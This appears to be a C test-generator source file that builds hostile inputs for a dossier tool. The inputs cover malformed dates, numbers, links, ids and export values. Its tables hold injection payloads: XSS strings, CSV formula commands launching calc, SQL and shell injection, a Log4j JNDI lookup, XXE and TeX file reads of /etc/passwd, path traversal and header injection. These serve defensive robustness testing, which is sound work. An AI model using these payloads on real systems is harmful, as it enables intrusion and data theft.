/* What is hostile in the values of a dossier: dates, numbers, links, ids, and names that do harm
 * somewhere else. */
#include "hostile/pile.h"

/* ── Dates and numbers ──────────────────────────────────────────────────────────────────────── */

static const char *const dates[] = {
	"2021-13-01", "2021-00-10", "2021-02-29", "2021-02-30", "2021-04-31", "1900-02-29",
	"2021-12-32",
	"2021-1-1", "21-01-01", "01/02/2021", "2021/01", "2021.01.02", "20210102", "June 2021",
	"yesterday",
	"2021-06-22T25:61:61", "2021-06-22T10:00", "2021-06-22T10:00:00+99:99", "2021-W52",
	"2021-366",
	"9999-12-31", "10000-01-01", "Y10000", "Y-10000", "Y999999999999999999999",
	"Y-99999999999999999999",
	"Y17E7", "Y1E999999999", "Y-17E7S3", "-0001", "-0000", "0000", "-9999-12-31", "+2021",
	"999999999999999999999999", "-999999999999999999999999", "2147483648", "-2147483649",
	"2021/2020", "2021-06-22/2021-06-21", "/", "..", "../..", "/..", "../", "2021/", "/2021",
	"2021//2022",
	"2021/2022/2023", "2021/..", "../2021", "2021~/2022?", "2021?~", "2021~?", "2021??",
	"2021%", "2021%%",
	"?2021", "~", "2021-06~-22", "2021-?06-22", "2021-XX-22", "XXXX", "XXXX-XX-XX", "X021",
	"20X1", "202X-06",
	"2021-06-XX", "-XXXX", "2021-21", "2021-24", "2021-41", "2021-99", "2021-21-01",
	"[2021, 2022]", "[..2021]", "[2021..]", "{2021,2022}", "{2021..2022}", "[2021", "2021]",
	"[]", "{}",
	"[2021,]", "[,2021]", "[2021..2022..2023]", "{[2021]}", "2021S2", "2021S99", "2021S", "S2",
	" 2021", "2021 ", "2021\\n", "2021-06-22 (or so)", "c. 2021", "2021\\u2013 06",
	"2021\\u221206",
	"\\u0662\\u0660\\u0662\\u0661", "\\uff12\\uff10\\uff12\\uff11", "2021\\0", "2021-06-22\\0",
	"NaN", "0x7E5",
	"2021-06-22-23", "2021-", "2021-06-", "-", "--", "2021--06", "202", "20", "2", "y2021",
	"Y2021",
};

void write_date(struct pile *pile)
{
	for (size_t i = 0; i < ROWS(dates); i++) {
		char name[32];
		struct bytes x = {0};
		bytes_text(&x, dates[i]);
		snprintf(name, sizeof(name), "event-%03zu", i);
		pile_fill(pile, name, NULL, "id: {id}\nkind: event\nname: A\ndate: \"{x}\"\n", &x);
		bytes_release(&x);
	}
	/* Both ends of spans, wherever they may stand. */
	for (size_t i = 0; i < ROWS(dates); i += 3) {
		char name[32];
		struct bytes x = {0};
		bytes_format(&x, "since: \"%s\", until: \"%s\", date: \"%s\"", dates[i],
		             dates[(i + 7) % ROWS(dates)], dates[(i + 11) % ROWS(dates)]);
		snprintf(name, sizeof(name), "span-%03zu", i);
		pile_fill(pile, name, NULL,
		          "id: {id}\nkind: person\nname: A\npositions: [{title: A, {x}}]\n"
		          "relations: [{type: met, to: control, {x}}]\nborn: 2030\n"
		          "died: 1010\n", &x);
		bytes_release(&x);
	}
}

void write_number(struct pile *pile)
{
	static const char *const numbers[] = {
		"1e999", "-1e999", "1e-999", "0.0000000000000000000000000000000000001",
		"9223372036854775807",
		"9223372036854775808", "-9223372036854775808", "-9223372036854775809",
		"18446744073709551615",
		"18446744073709551616", "4294967295", "4294967296", "2147483647", "-2147483648",
		"0x8000000000000000",
		"00000000000000000000000000000000000000000000001", "-0", "1_0", "1e+", "0x", "0b2",
		"1.2.3",
		"\\u0661\\u0662", "\\u2160", "\\xbd", "\\u221e",
	};
	static const char template[] =
		"id: {id}\nkind: event\nname: \"{x}\"\ndate: \"{x}\"\nsources:\n"
		"  - {source: control-source, locator: \"{x}\"}\n  - \"{x}\"\n"
		"relations: [{type: \"{x}\", to: \"{x}\", role: \"{x}\"}]\n"
		"type: {value: \"{x}\", as_of: \"{x}\", rank: \"{x}\"}\n"
		"body: \"[[{x}]] [@control-source, {x}]\"\n";
	for (size_t i = 0; i < ROWS(numbers); i++) {
		char name[32];
		struct bytes x = {0};
		bytes_text(&x, numbers[i]);
		snprintf(name, sizeof(name), "number-%02zu", i);
		pile_fill(pile, name, NULL, template, &x);
		bytes_release(&x);
	}
}

/* ── Links ──────────────────────────────────────────────────────────────────────────────────── */

#define PERSON "id: {id}\nkind: person\nname: Anna Bell\n"

static const struct text_case proses[] = {
	{ "empty",         "[[]] [[ ]] [[|]] [[|a]] [[a|]]", NULL },
	{ "open",          "[[control", NULL },
	{ "half",          "[[control] [control]] [control]", NULL },
	{ "twice",         "[[[[control]]]]", "none" },
	{ "inside",        "[[control|[[control]]]]", NULL },
	{ "three",         "[[[control]]]", NULL },
	{ "bars",          "[[control|a|b||c]]", NULL },
	{ "lines",         "[[con\\ntrol]] [[control|a\\nb]]", NULL },
	{ "gone",          "[[no-such-dossier]]", "link-dangling" },
	{ "self",          "[[{id}]]", "link-self" },
	{ "path",          "[[../../etc/passwd]] [[/etc/passwd|a]]", NULL },
	{ "script",        "[[javascript:alert(1)|a]] [a](javascript:alert(1))", NULL },
	{ "lies",          "[[control|\\u202elortnok]] [[control|https://example.org]]", NULL },
	{ "label-blank",   "[[control|\\u200b]] [[control|\\u3164]]", NULL },
	{ "name-as-id",    "[[Kontrollakte]] [[CONTROL]] [[ control ]]", NULL },
	{ "escaped",       "\\\\[[control]] [\\\\[control]]", NULL },
	{ "cite-empty",    "[@] [@ ] [@,] [@;] [@;@]", NULL },
	{ "cite-open",     "[@control-source", NULL },
	{ "cite-gone",     "[@no-such-source]", NULL },
	{ "cite-wrong",    "[@control, para. 1]", NULL },
	{ "cite-many",     "[@control-source; @control-source; @control-source]", "none" },
	{ "cite-locator",  "[@control-source, \\e[31m; ]]] , [[, @]", NULL },
	{ "cite-nested",   "[@control-source [@control-source]]", NULL },
	{ "cite-minus",    "[-@control-source] @control-source", NULL },
	{ "cite-braces",   "[@{control-source}, {para. 1}]", NULL },
	{ "mixed",         "[[@control]] [@[[control]]]", NULL },
	{ "markup",        "<a href=\\\"javascript:x\\\">a</a> **b** `c` ![d](e)", NULL },
};

static const struct text_case targets[] = {
	{ "to-self",      PERSON "relations: [{type: met, to: {id}}]\n", "link-self" },
	{ "to-gone",      PERSON "relations: [{type: met, to: no-such}]\n", "link-dangling" },
	{ "to-nothing",   PERSON "relations: [{type: met, to: \"\"}, {type: met, to: ~}, {type: "
	                  "met}]\n", NULL },
	{ "to-list",      PERSON "relations: [{type: met, to: [control, gone, {a: b}]}]\n", NULL },
	{ "type-nothing", PERSON "relations: [{to: control}, {type: \"\", to: control}]\n", NULL },
	{ "type-odd",     PERSON "relations: [{type: zaps, to: control}]\n", "relation-unknown" },
	{ "type-list",    PERSON "relations: [{type: [met, supports], to: control}]\n", NULL },
	{ "twice",        PERSON "relations: [{type: met, to: control}, {type: met, to: "
	                  "control}]\n", NULL },
	{ "wrong-kind",   PERSON "nationality: control\nmember_of: control-land\n", "link-kind" },
	{ "ring",         "id: {id}-1\nkind: place\nname: A\nwithin: {id}-2\n---\n"
	                  "id: {id}-2\nkind: place\nname: B\nwithin: {id}-1\n", "none" },
	{ "ring-self",    "id: {id}\nkind: organization\nname: A\npart_of: {id}\n", "link-self" },
	{ "derived-ring", "id: {id}-1\nkind: source\ntitle: A\nderived_from: {id}-2\n---\n"
	                  "id: {id}-2\nkind: source\ntitle: B\nderived_from: {id}-1\n", NULL },
	{ "source-self",  "id: {id}\nkind: source\ntitle: A\nsources: [{id}]\n", NULL },
	{ "former-ring",  "id: {id}-1\nkind: person\nname: A\nformer_ids: [{id}-2]\n---\n"
	                  "id: {id}-2\nkind: person\nname: B\nformer_ids: [{id}-1]\n", NULL },
	{ "former-own",   PERSON "former_ids: [{id}, {id}]\n", NULL },
	{ "former-steals",PERSON "former_ids: [control-land]\n", NULL },
	{ "holder",       "id: {id}\nkind: person\nname: A\nquotes:\n"
	                  "  - {text: So., speaker: gone, id: {id}}\n", NULL },
	{ "quotes-deep",  "id: {id}\nkind: source\ntitle: A\nquotes:\n"
	                  "  - {text: So., quotes: [{text: Deep., quotes: [{text: "
	                  "Deeper.}]}]}\n", NULL },
	{ "url-script",   "id: {id}\nkind: source\ntitle: A\nurl: javascript:alert(1)\n", NULL },
	{ "url-data",     "id: {id}\nkind: source\ntitle: A\n"
	                  "url: \"data:text/html,<script>x</script>\"\n", NULL },
	{ "url-file",     "id: {id}\nkind: source\ntitle: A\nurl: file:///etc/passwd\n", NULL },
	{ "url-hidden",   "id: {id}\nkind: source\ntitle: A\nurl: \"java\\tscript\\n:x\"\n", NULL },
	{ "url-user",     "id: {id}\nkind: source\ntitle: A\n"
	                  "url: \"https://example.org@evil.example/\"\n", NULL },
	{ "url-blank",    "id: {id}\nkind: source\ntitle: A\n"
	                  "url: \"https://example.org/ a b\"\n", NULL },
	{ "url-option",   "id: {id}\nkind: source\ntitle: A\nurl: --help\n"
	                  "archive_url: -rf\n", NULL },
};

void write_link(struct pile *pile)
{
	/* {id} in a text of the table is filled in with the template that the table stands in. */
	for (size_t i = 0; i < ROWS(proses); i++) {
		char template[1024];
		snprintf(template, sizeof(template), PERSON "body: \"%s\"\n", proses[i].text);
		pile_fill(pile, proses[i].name, proses[i].rule, template, &(struct bytes){0});
	}
	pile_texts(pile, targets, ROWS(targets));
}

/* ── Ids ────────────────────────────────────────────────────────────────────────────────────── */

static const struct text_case ids[] = {
	{ "empty",        "", NULL },
	{ "blank",        " ", NULL },
	{ "blanks",       "anna bell", NULL },
	{ "dot",          ".", NULL },
	{ "dots",         "..", NULL },
	{ "up",           "../../etc/passwd", NULL },
	{ "root",         "/etc/passwd", NULL },
	{ "backslash",    "..\\\\..\\\\windows", NULL },
	{ "drive",        "c:con", NULL },
	{ "option",       "--help", NULL },
	{ "option-short", "-rf", NULL },
	{ "dash",         "-", NULL },
	{ "command",      "list", NULL },
	{ "command-show", "show", NULL },
	{ "device",       "con", NULL },
	{ "device-nul",   "nul.txt", NULL },
	{ "index",        "index", NULL },
	{ "hidden",       ".htaccess", NULL },
	{ "colon",        "a:b:12:3", NULL },
	{ "star",         "*", NULL },
	{ "question",     "?x=1&y=2#z", NULL },
	{ "percent",      "%2e%2e%2f%00", NULL },
	{ "format",       "%s%n%x", NULL },
	{ "quote",        "a\\\"b'c", NULL },
	{ "shell",        "$(touch$IFS-x)`x`|x;x&x", NULL },
	{ "markup",       "<b>&amp;</b>", NULL },
	{ "bars",         "a|b]]c[[d", NULL },
	{ "cite",         "@control-source,x;y", NULL },
	{ "line",         "a\\nb", NULL },
	{ "nul",          "a\\0b", NULL },
	{ "nul-end",      "control\\0", NULL },
	{ "escape",       "\\e[31m", NULL },
	{ "case",         "CONTROL", NULL },
	{ "cyrillic",     "\\u0441ontrol", NULL },
	{ "full-width",   "\\uff43ontrol", NULL },
	{ "zero-width",   "con\\u200btrol", NULL },
	{ "turned",       "\\u202elortnoc", NULL },
	{ "no-break",     "con\\xa0trol", NULL },
	{ "ideographic",  "con\\u3000trol", NULL },
	{ "marks",        "control\\u0301\\u0301\\u0301\\u0301\\u0301\\u0301\\u0301\\u0301", NULL },
	{ "burmese",      "\\u1014\\u1031\\u1015\\u103c\\u100a\\u103a", NULL },
	{ "emoji",        "\\U0001f600", NULL },
	{ "number",       "12", NULL },
	{ "null",         "null", NULL },
	{ "kind",         "person", NULL },
	{ "former",       "control.", NULL },
};

static void write_long_id(struct pile *pile, size_t size)
{
	char name[32];
	struct bytes x = {0};
	bytes_repeat(&x, "x", size);
	snprintf(name, sizeof(name), "long-%zu", size);
	pile_fill(pile, name, NULL, "id: {x}\nkind: person\nname: Long\nmember_of: {x}y\n", &x);
	bytes_release(&x);
}

void write_id(struct pile *pile)
{
	pile_fills(pile, "", "id: \"{x}\"\nkind: person\nname: The {id} one\nbody: \"[[{x}]]\"\n"
	           "relations: [{type: met, to: \"{x}\"}]\n"
	           "former_ids: [\"{x}-old\"]\n", ids, ROWS(ids));
	write_long_id(pile, 127);
	write_long_id(pile, 200);
	write_long_id(pile, 201);
	write_long_id(pile, 5000);
}

/* ── Elsewhere ──────────────────────────────────────────────────────────────────────────────── */

static const struct text_case harms[] = {
	{ "formula",       "=1+1", NULL },
	{ "formula-cmd",   "=cmd|' /C calc'!A0", NULL },
	{ "formula-plus",  "+1+1", NULL },
	{ "formula-minus", "-1+1", NULL },
	{ "formula-at",    "@SUM(1;1)", NULL },
	{ "formula-tab",   "\\t=1+1", NULL },
	{ "formula-cr",    "\\r=1+1", NULL },
	{ "formula-wide",  "\\uff1d1+1", NULL },
	{ "formula-space", " =1+1", NULL },
	{ "formula-url",   "=HYPERLINK(\\\"https://example.org\\\",\\\"a\\\")", NULL },
	{ "csv-quote",     "a\\\"b,\\\"c\\\"\\nd;e", NULL },
	{ "csv-line",      "a\\r\\nb", NULL },
	{ "html-script",   "<script>alert(1)</script>", NULL },
	{ "html-image",    "<img src=x onerror=alert(1)>", NULL },
	{ "html-attribute","\\\" onmouseover=\\\"alert(1)", NULL },
	{ "html-single",   "' autofocus onfocus='alert(1)", NULL },
	{ "html-title",    "</title></head></html>", NULL },
	{ "html-comment",  "--><!-- ]]>", NULL },
	{ "html-entity",   "&lt;b&gt; &#60; &amp;amp;", NULL },
	{ "html-style",    "</style><style>*{display:none}", NULL },
	{ "html-null",     "<scr\\0ipt>", NULL },
	{ "json-end",      "\\\"}]} </script>", NULL },
	{ "json-lines",    "a\\u2028b\\u2029c", NULL },
	{ "json-escape",   "\\\\u0000 \\\\\\\" \\\\n", NULL },
	{ "dot-quote",     "a\\\" ]; b [ label=<<b>x</b>>, image=\\\"/etc/passwd\\\"", NULL },
	{ "dot-escape",    "a\\\\N\\\\l\\\\", NULL },
	{ "graphml",       "<!ENTITY a SYSTEM 'file:///etc/passwd'>&a;", NULL },
	{ "cdata",         "<![CDATA[a]]>", NULL },
	{ "markdown",      "# a\\n---\\n* [b](javascript:x) ![c](d)", NULL },
	{ "markdown-code", "```\\n~~~\\n    a", NULL },
	{ "markdown-html", "<details open ontoggle=alert(1)>", NULL },
	{ "markdown-table","| a | b |\\n|---|---|", NULL },
	{ "front-matter",  "---\\nlayout: x\\n---", NULL },
	{ "bibtex",        "} @article{x, title = {y}", NULL },
	{ "bibtex-tex",    "\\\\input{/etc/passwd} \\\\write18{touch x} $x$ % y", NULL },
	{ "ris",           "A\\nER  - \\nTY  - JOUR\\nTI  - x", NULL },
	{ "roff",          ".so /etc/passwd\\n'sh touch x\\n\\\\X'x'", NULL },
	{ "sql",           "'; DROP TABLE dossiers; --", NULL },
	{ "shell",         "$(touch x) `touch x`; touch x", NULL },
	{ "template",      "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}", NULL },
	{ "log4j",         "${jndi:ldap://example.org/a}", NULL },
	{ "format",        "%s%s%s%n", NULL },
	{ "regex",         "(((a{1,30}){1,30}){1,30}){1,30}", NULL },
	{ "regex-slow",    "(a+)+$ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", NULL },
	{ "query",         "kind:person \\\"a -b OR (c", NULL },
	{ "yaml",          "a: b\\n- c: &d [*d]\\n--- !x", NULL },
	{ "finding",       "x.yaml:1:1: error: fake [type]", NULL },
	{ "prompt",        "dossier: ready> ", NULL },
	{ "unc",           "\\\\\\\\example.org\\\\share", NULL },
	{ "mail",          "a\\r\\nBcc: b@example.org", NULL },
	{ "http",          "a\\r\\nSet-Cookie: b=c", NULL },
};

void write_export(struct pile *pile)
{
	pile_fills(pile, "name-",
	           "id: {id}\nkind: person\nname: \"{x}\"\nsummary: \"{x}\"\ntags: [\"{x}\"]\n"
	           "relations: [{type: met, to: control, role: \"{x}\"}]\n", harms, ROWS(harms));
	pile_fills(pile, "source-",
	           "id: {id}\nkind: source\ntitle: \"{x}\"\nauthors: [\"{x}\"]\nurl: \"{x}\"\n"
	           "quotes:\n"
	           "  - {text: \"{x}\", speaker: control, locator: \"{x}\"}\n", harms, ROWS(harms));
}
